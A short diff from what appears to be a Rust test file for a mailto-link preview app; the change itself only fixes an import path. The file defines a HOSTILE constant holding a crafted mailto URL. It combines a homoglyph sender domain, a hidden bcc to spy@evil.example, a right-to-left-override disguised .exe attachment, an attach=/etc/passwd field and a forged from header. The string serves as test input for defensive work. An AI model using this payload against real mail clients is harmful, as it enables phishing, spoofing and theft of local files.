@@ -10,7 +10,7 @@
 use std::time::{Duration, Instant};
 
 use egui::{Event, Key, Modifiers, MouseWheelUnit, RawInput, Rect, pos2, vec2};
-use mailto_preview::ui::render::raster::Raster;
+use mailto_preview::render::raster::Raster;
 use mailto_preview::ui::{AppOptions, PreviewApp};
 
 const HOSTILE: &str = "mailto:%22support@bank.example%22%20%3Csupport@%D0%B0pple.com%3E?bcc=spy@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&body=Please%20pay.&attach=/etc/passwd&from=ceo@bank.example&X-Mozilla-Draft-Info=1";
